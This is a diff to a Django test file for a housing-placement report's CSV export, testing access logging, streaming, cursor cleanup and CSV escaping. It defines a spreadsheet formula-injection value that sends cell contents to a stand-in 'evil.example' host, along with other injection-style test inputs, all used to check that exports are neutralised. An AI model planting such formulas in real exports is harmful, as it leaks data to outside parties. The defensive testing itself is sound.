@@ -27,7 +27,7 @@ from tests.factories import (
 from tests.thuisgevers.reports_helpers import body, read_csv, read_xlsx, read_xlsx_cells
 from thuisgevers import figures
 from thuisgevers.reports import placements as placements_module
-from thuisgevers.reports.exports import neutralise
+from thuisgevers.reports.exports import csv_lines, neutralise
 
 PERIOD = Period.current()
 EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1;"klik")'
@@ -271,21 +271,130 @@ def test_placements_export_logs_every_resident_once(client, staff_groningen, wor
     assert {e.actor_id for e in entries} == {staff_groningen.pk}
 
 
-def test_placements_export_logs_in_batches_while_streaming(rf, staff_groningen, world, monkeypatch):
-    monkeypatch.setattr(placements_module, "LOG_BATCH", 2)
-    request = rf.get("/reports/placements.csv")
-    request.user = staff_groningen
+def _placements_request(rf, user, path="/reports/placements.csv"):
     from thuisgevers.reports.params import parse_scope
 
-    request.GET = request.GET.copy()
-    queryset = placements_module.placements_queryset(staff_groningen, parse_scope(request, personal=True))
-    rows = placements_module.logged_rows(request, queryset, log_batch=2)
-    assert inspect.isgenerator(rows), "a stream, not a list of every row"
-    first = next(rows)
-    assert AccessLogEntry.objects.count() == 2, "the first batch is logged before its first row leaves"
-    assert len(first) == len(PLACEMENTS_HEADER)
-    rest = list(rows)
-    assert len(rest) == 2 and AccessLogEntry.objects.count() == 3
+    request = rf.get(path, REMOTE_ADDR="192.0.2.10")
+    request.user = user
+    return request, placements_module.placements_queryset(user, parse_scope(request, personal=True))
+
+
+def test_placements_export_logs_every_resident_before_the_first_row_leaves(rf, staff_groningen, world):
+    request, queryset = _placements_request(rf, staff_groningen)
+    batches = placements_module.logged_batches(request, queryset, batch_size=2)
+    assert inspect.isgenerator(batches), "a stream, not a list of every row"
+    assert not AccessLogEntry.objects.exists(), "nothing is logged before the stream starts"
+    first = next(batches)
+    assert len(first) == 2, "rows come in batches"
+    expected = {(str(r.pk), r.reference) for h in (world["a"], world["b"]) for r in h.residents.all()}
+    logged = AccessLogEntry.objects.all()
+    assert {(e.subject_id, e.subject_reference) for e in logged} == expected, "all rows, up front"
+    rest = list(batches)
+    assert [len(batch) for batch in rest] == [1]
+    assert AccessLogEntry.objects.count() == 3, "and nothing more while the rest is sent"
+    assert len(first[0]) == len(PLACEMENTS_HEADER) + 1, "the resident id comes last, for the log"
+
+
+def test_placements_export_log_rows_are_those_log_access_writes(rf, staff_groningen, world):
+    from accesslog.log import log_access
+
+    request, queryset = _placements_request(
+        rf, staff_groningen, "/reports/placements.csv?period=" + str(PERIOD)
+    )
+    list(placements_module.logged_rows(request, queryset))
+    resident = world["b"].residents.get()
+    exported = AccessLogEntry.objects.get(subject_id=str(resident.pk))
+    log_access(request, "export", [resident], purpose=placements_module.PURPOSE)
+    direct = AccessLogEntry.objects.exclude(pk=exported.pk).get(subject_id=str(resident.pk))
+    fields = [f.name for f in AccessLogEntry._meta.fields if f.name not in ("id", "occurred_at")]
+    assert {f: getattr(exported, f) for f in fields} == {f: getattr(direct, f) for f in fields}
+    assert exported.subject_type == "residents.resident" and exported.client_address == "192.0.2.10"
+    assert exported.request_path == f"/reports/placements.csv?period={PERIOD}"
+    assert abs(exported.occurred_at - direct.occurred_at) < dt.timedelta(minutes=1)
+
+
+def _open_cursors():
+    if connection.vendor != "postgresql":
+        return 0
+    with connection.cursor() as cursor:
+        cursor.execute("SELECT count(*) FROM pg_cursors")
+        return cursor.fetchone()[0]
+
+
+@pytest.mark.django_db(transaction=True)
+def test_placements_export_in_autocommit_logs_and_reads_one_snapshot_and_closes_its_cursor(
+    client, rf, staff_groningen, world
+):
+    """As in production, outside a transaction: the log is committed before the first row, the rows
+    are those the log names (a placement made meanwhile is not in this export), no cursor is left."""
+    request, queryset = _placements_request(rf, staff_groningen)
+    batches = placements_module.logged_batches(request, queryset, batch_size=1)
+    with CaptureQueriesContext(connection) as ctx:
+        first = next(batches)
+    assert not connection.in_atomic_block
+    if connection.vendor == "postgresql":
+        assert [q["sql"] for q in ctx.captured_queries][:2] == [
+            "BEGIN",
+            "SET TRANSACTION ISOLATION LEVEL REPEATABLE READ",
+        ]
+    assert AccessLogEntry.objects.count() == 3
+    PlacementFactory(
+        resident=ResidentFactory(household=world["b"]), property=world["evil"], start_date=PERIOD.start
+    )
+    assert len([first, *batches]) == 3
+    assert AccessLogEntry.objects.count() == 3
+    assert _open_cursors() == 0
+
+    batches = placements_module.logged_batches(request, queryset, batch_size=1)
+    next(batches)
+    batches.close()  # the client went away after the first batch
+    assert _open_cursors() == 0
+    assert AccessLogEntry.objects.count() == 3 + 4, "logged for all rows, also those not sent"
+
+    client.force_login(staff_groningen)
+    assert len(read_csv(client.get(f"/reports/placements.csv?period={PERIOD}"))) == 1 + 4
+    assert _open_cursors() == 0
+
+
+def test_an_empty_placements_queryset_logs_nothing(rf, staff_groningen, world):
+    request, _queryset = _placements_request(rf, staff_groningen)
+    empty = Placement.objects.none().values_list(*placements_module._FIELDS)
+    assert list(placements_module.logged_batches(request, empty)) == []
+    assert not AccessLogEntry.objects.exists()
+
+
+@pytest.mark.parametrize(
+    "name", [EVIL_NAME, "+31 50 123", "-min", "@home", "\tTab", "\rCR", 'Huis "De Ster"; 2']
+)
+def test_placements_csv_is_byte_for_byte_the_generic_csv_of_the_same_rows(client, rf, pioneer, world, name):
+    """The fast CSV path writes exactly what `csv_lines` writes for the ORM's rows."""
+    odd = PropertyFactory(municipality=world["g"], name=name, capacity=20)
+    household = HouseholdFactory(municipality=world["g"], category="ex_amv")
+    for n, (reason, outflow, planned, end) in enumerate(
+        [
+            ("=1+1", "left", None, PERIOD.start + dt.timedelta(days=30)),
+            ('regel 1\nregel 2; "citaat"', "", PERIOD.start + dt.timedelta(days=400), None),
+            ("é ñ ✓ 🏠", "permanent_here", None, None),
+        ]
+    ):
+        PlacementFactory(
+            resident=ResidentFactory(household=household),
+            property=odd,
+            kind=Placement.Kind.TRANSIT if n else Placement.Kind.HAR,
+            start_date=PERIOD.start + dt.timedelta(days=n),
+            planned_end=planned,
+            end_date=end,
+            extension_reason=reason,
+            outflow=outflow,
+        )
+    url = f"/reports/placements.csv?period={PERIOD}"
+    client.force_login(pioneer)
+    fast = body(client.get(url))
+
+    _request, queryset = _placements_request(rf, pioneer, url)
+    generic = b"".join(csv_lines(placements_module.HEADER, (row[:-1] for row in queryset)))
+    assert len(read_csv(fast)) == 1 + 3 + 3
+    assert fast == generic
 
 
 def _count_queries(client, url):
